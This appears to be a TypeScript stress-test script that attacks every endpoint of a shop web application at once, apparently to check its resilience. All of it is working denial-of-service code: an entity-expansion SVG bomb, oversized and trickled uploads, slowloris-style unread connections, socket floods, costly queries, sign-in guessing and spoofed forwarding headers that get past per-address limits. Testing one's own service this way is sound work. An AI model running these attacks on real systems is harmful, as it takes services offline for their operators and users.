import {randomBytes} from 'node:crypto'
import {connect} from 'node:net'
import {setPriority} from 'node:os'
import {setTimeout as pause} from 'node:timers/promises'
import {WebSocket} from 'ws'
import {z} from 'zod'

// Attacks every door of a shop at once, from ten addresses and from a /48 network of IPv6, until its parent disconnects.
// Sends its counts of responses by door and status then. The arguments are the shop's address, the path of a picture, and
// the id of a document.
const [url = '', picture = '', documentId = ''] = process.argv.slice(2)
const {hostname, port} = new URL(url)
const ADDRESSES = Array.from({length: 10}, (_, n) => `192.0.2.${n + 1}`)
/** An address in another /64 of one /48 network with each call. */
const inNetwork = () => `2001:db8:7:${randomBytes(2).toString('hex')}::1`
/** Requests of one address at one door at the same time. */
const AT_ONCE = 3
/** Sockets of one address: as many as it may have. */
const SOCKETS = 200
/** Connections of one address on which it requests and never reads. */
const UNREAD = 100
/** Milliseconds for which such a connection stays open. The shop itself waits five minutes. */
const UNREAD_MS = 20_000
/** Milliseconds after which a response on a connection of this kind counts as missing. */
const SILENT_MS = 30_000
/** Milliseconds to wait after a rejection, as a patient attacker would to save its own resources. */
const AFTER_REJECTION_MS = 20

// The attack comes from other machines. Here it shares the processors, so the shop and its visitors go first.
setPriority(19)

let unique = 0
const next = () => `${Date.now().toString(36)}${(unique += 1)}`
const counts: Record<string, Record<string, number>> = {}

type Door = (headers: Record<string, string>) => Promise<Response>

/** An SVG of 107 kB that expands to gigabytes. */
const svg = `<!DOCTYPE svg [<!ENTITY e "${'x'.repeat(50_000)}">]><svg xmlns="http://www.w3.org/2000/svg"><path id="${'&e;'.repeat(19_000)}"/></svg>`

const handedOut = z.object({upload: z.object({fields: z.record(z.string(), z.string())})})

function uploading(fileName: string, contentType: string, body: string | Uint8Array<ArrayBuffer>): Door {
  return async (headers) => {
    const asked = await fetch(`${url}/upload-service/get-upload-url`, {
      method: 'POST',
      headers: {...headers, 'content-type': 'application/json'},
      body: JSON.stringify({fileName, contentType}),
    })
    if (!asked.ok) return asked
    const form = new FormData()
    for (const [name, value] of Object.entries(handedOut.parse(await asked.json()).upload.fields))
      form.append(name, value)
    form.append('file', new Blob([body]), fileName)
    return fetch(`${url}/upload-service/objects`, {method: 'POST', headers, body: form})
  }
}

const posting =
  (path: string, body: () => string, type = 'application/json'): Door =>
  async (headers) =>
    fetch(url + path, {method: 'POST', headers: {...headers, 'content-type': type}, body: body()})

/** Sends a body of 20,000 bytes in as many chunks. */
const inPieces =
  (path: string, type: string): Door =>
  (headers) =>
    new Promise((resolve, reject) => {
      const socket = connect(Number(port), hostname)
      const fields = Object.entries({...headers, host: hostname, 'content-type': type})
      const head = fields.map(([name, value]) => `${name}: ${value}\r\n`).join('')
      socket.write(`POST ${path} HTTP/1.1\r\n${head}transfer-encoding: chunked\r\n\r\n`)
      socket.write(`${'1\r\n \r\n'.repeat(20_000)}0\r\n\r\n`)
      socket.setTimeout(SILENT_MS, () => socket.destroy(new Error('no response')))
      socket.on('error', reject)
      socket.once('data', (data) => {
        socket.destroy()
        resolve(new Response(null, {status: Number(String(data).slice(9, 12))}))
      })
    })

/** A form of two megabytes of parts without a name. */
const parts = `--b\r\nA: b\r\n\r\n\r\n`.repeat(100_000)

const getting =
  (path: () => string): Door =>
  async (headers) =>
    fetch(url + path(), {headers})

const query = (groq: string) =>
  `/lake/v2025-02-19/data/query/production?query=${encodeURIComponent(groq)}&returnQuery=false`

const doors: Record<string, Door> = {
  'SVG uploads': uploading('a.svg', 'image/svg+xml', svg),
  'large uploads': uploading('a.png', 'image/png', new Uint8Array(15_000_000)),
  enquiries: posting('/forms/submissions', () =>
    JSON.stringify({fields: [{name: 'page_url', value: `https://shop.example/${next()}`}]}),
  ),
  'large enquiries': posting('/forms/submissions', () => JSON.stringify({fields: ['x'.repeat(60_000)]})),
  pictures: getting(() => `/lake/${picture}?w=${3000 + (unique += 1)}&fm=avif`),
  pages: getting(() => `/designs?q=${next()}`),
  'pages of the home page': getting(() => `/?x=${next()}`),
  queries: getting(() => query(`*[count(*[_id > ^._id && title match "a*"]) > ${(unique += 1)}]`)),
  'full-text queries': getting(() => query(`*[@ match text::query("granite ${next()}")]`)),
  'sign-ins': posting('/lake/v1/auth/sign-in', () => JSON.stringify({password: next()})),
  'challenges of passkeys': posting('/lake/v1/auth/passkey-options', () => '{}'),
  'documents by id': getting(
    () =>
      `/lake/v2025-02-19/data/doc/production/${Array.from({length: 150}, () => documentId).join()},${next()}`,
  ),
  'forms of many parts': posting('/upload-service/objects', () => parts, 'multipart/form-data; boundary=b'),
  'queries in tiny pieces': inPieces('/lake/v2025-02-19/data/query/production', 'application/json'),
  'forms in tiny pieces': inPieces('/upload-service/objects', 'multipart/form-data; boundary=b'),
  'files of the Studio': getting(() => `/studio/${next()}`),
  feeds: getting(() => `/feeds/google.xml?x=${next()}`),
  'links of previews': getting(() => `/preview/enable?sanity-preview-secret=${next()}`),
}

/** What is requested and never read. */
const UNREAD_PATHS = [
  () => '/designs',
  () => `/designs?q=${next()}`,
  () => `/lake/${picture}?w=2000&fm=png`,
  () => `/lake/${picture}`,
  () => `/lake/v2025-02-19/data/doc/production/${documentId}`,
]

async function attack(name: string, door: Door, address: () => string) {
  const ofDoor = (counts[name] ??= {})
  for (;;) {
    const status = await door({'x-forwarded-for': address()}).then(
      async (response) => {
        await response.arrayBuffer()
        return String(response.status)
      },
      () => 'no response',
    )
    ofDoor[status] = (ofDoor[status] ?? 0) + 1
    if (!status.startsWith('2')) await pause(AFTER_REJECTION_MS)
  }
}

/** Requests on connections that it never reads, and opens others instead when they have been open for some time. */
function requestUnread(address: () => string) {
  const ofDoor = (counts['answers that nobody reads'] ??= {})
  const open = (n: number) => {
    const socket = connect(Number(port), hostname)
    const path = UNREAD_PATHS[n % UNREAD_PATHS.length]?.() ?? '/'
    socket.pause()
    socket.write(`GET ${path} HTTP/1.1\r\nhost: ${hostname}\r\nx-forwarded-for: ${address()}\r\n\r\n`)
    socket.on('error', () => undefined)
    socket.on('close', () => setTimeout(open, 1000, n))
    setTimeout(() => socket.destroy(), UNREAD_MS)
    ofDoor['requested'] = (ofDoor['requested'] ?? 0) + 1
  }
  for (let n = 0; n < UNREAD; n += 1) open(n)
}

function openSockets(address: string) {
  const ofDoor = (counts.sockets ??= {})
  const count = (status: string) => void (ofDoor[status] = (ofDoor[status] ?? 0) + 1)
  const open = () => {
    const socket = new WebSocket(`${url.replace('http', 'ws')}/lake/v1/socket/production`, {
      headers: {'x-forwarded-for': address},
    })
    socket.on('open', () => count('open'))
    socket.on('error', () => count('rejected'))
    // As soon as the shop closes a socket, the attacker opens another.
    socket.on('close', () => setTimeout(open, 1000))
  }
  for (let n = 0; n < SOCKETS; n += 1) open()
}

process.once('disconnect', () => process.exit(0))
process.on('message', () => process.send?.({counts}))
for (const address of ADDRESSES) {
  openSockets(address)
  requestUnread(() => address)
  for (const [name, door] of Object.entries(doors))
    for (let n = 0; n < AT_ONCE; n += 1) void attack(name, door, () => address)
}
requestUnread(inNetwork)
for (const [name, door] of Object.entries(doors))
  for (let n = 0; n < AT_ONCE; n += 1) void attack(`${name}, IPv6`, door, inNetwork)
